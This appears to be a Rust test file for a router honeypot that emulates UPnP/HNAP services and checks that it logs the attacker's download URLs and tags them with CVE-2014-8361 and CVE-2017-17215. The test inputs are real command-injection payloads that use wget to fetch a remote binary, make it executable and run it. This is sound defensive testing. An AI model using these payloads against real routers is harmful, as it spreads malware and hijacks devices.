use super::Talk;
use crate::amplification::Persona;
use crate::iot::dialogue::Ends;
use crate::iot::house::Talking;
use crate::iot::{Device, Limits};
use noroshi_model::Nanos;

const NOW: Nanos = Nanos(1_767_225_600_000_000_000);

fn talk() -> Box<Talk> {
    let address: noroshi_model::Addr = "192.0.2.7".parse().unwrap();
    let ends = Ends { sensor: "s".into(), src: address, sport: 4_000, dst: address, dport: 52_869, protocol: "upnp" };
    Box::new(Talk::new(
        Device::shipped("router").unwrap().dress(&Persona::new(1)),
        Limits::default(),
        &ends,
        "1".into(),
        NOW,
    ))
}

fn ask(talk: &mut Talk, request: &str) -> String {
    let said = talk.feed(request.as_bytes(), NOW);
    assert!(said.close);
    String::from_utf8(said.bytes).unwrap()
}

#[test]
fn a_mapping_with_a_command_in_it_is_done_and_its_place_kept() {
    let body = "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping xmlns:u=\"urn:schemas-upnp-org:service:\
        WANIPConnection:1\"><NewInternalClient>`cd /tmp;wget http://203.0.113.4/mips -O l;chmod 777 l;./l`\
        </NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>";
    let request = format!(
        "POST /picsdesc.xml HTTP/1.1\r\nHost: 192.0.2.7:52869\r\nSOAPAction: \
         urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    let mut talk = talk();
    let said = ask(&mut talk, &request);
    assert!(said.starts_with("HTTP/1.1 200 OK") && said.contains("u:AddPortMappingResponse"), "{said}");
    let session = talk.finish(NOW).session;
    assert_eq!(session.urls, ["http://203.0.113.4/mips"]);
    assert_eq!(session.commands, ["POST /picsdesc.xml AddPortMapping"]);
    assert!(session.steps.contains("CVE-2014-8361"));
}

#[test]
fn calls_of_two_more_kinds_are_understood() {
    let mut one = talk();
    let said = ask(
        &mut one,
        "POST /HNAP1/ HTTP/1.1\r\nSOAPAction: \"http://purenetworks.com/HNAP1/`cd /tmp && wget \
        http://203.0.113.4/a.sh`\"\r\nContent-Length: 0\r\n\r\n",
    );
    assert!(said.contains("500"), "{said}");
    assert_eq!(one.finish(NOW).session.urls, ["http://203.0.113.4/a.sh"]);
    let mut two = talk();
    let body = "<u:Upgrade xmlns:u=\"urn:schemas-upnp-org:service:WANPPPConnection:1\"><NewStatusURL>$(/bin/busybox wget -g \
        203.0.113.4 -l /tmp/x -r /huawei)</NewStatusURL></u:Upgrade>";
    let said =
        ask(&mut two, &format!("POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nContent-Length: {}\r\n\r\n{body}", body.len()));
    assert!(said.contains("UpgradeResponse"), "{said}");
    assert!(two.finish(NOW).session.steps.contains("CVE-2017-17215"));
}

#[test]
fn the_description_is_that_of_the_device_which_ssdp_announces() {
    let said = ask(&mut talk(), "GET /rootDesc.xml HTTP/1.1\r\nHost: x\r\n\r\n");
    assert!(said.contains(&Persona::new(1).uuid("ssdp")) && said.contains("InternetGatewayDevice"), "{said}");
    assert!(said.contains(crate::amplification::upnp_server(&Persona::new(1))));
    assert!(ask(&mut talk(), "GET /x HTTP/1.1\r\n\r\n").starts_with("HTTP/1.1 404"));
    let mini = crate::amplification::upnp_server(&Persona::new(1)).to_ascii_lowercase().contains("miniupnpd");
    let refusal = ask(&mut talk(), "\x16\x03\x01\x02");
    assert!(refusal.starts_with(if mini { " 501 " } else { "HTTP/1.1 400" }), "{refusal}");
}
